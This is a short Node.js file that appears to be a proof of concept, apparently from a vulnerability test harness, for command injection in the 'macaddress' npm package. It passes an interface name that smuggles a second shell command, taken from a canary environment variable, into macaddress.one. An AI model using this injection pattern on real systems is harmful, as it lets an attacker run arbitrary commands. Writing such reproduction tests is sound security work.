'use strict';
const macaddress = require('macaddress');

macaddress.one('lo; ' + process.env.PROOF_CANARY_EXEC + ' #', () => {});
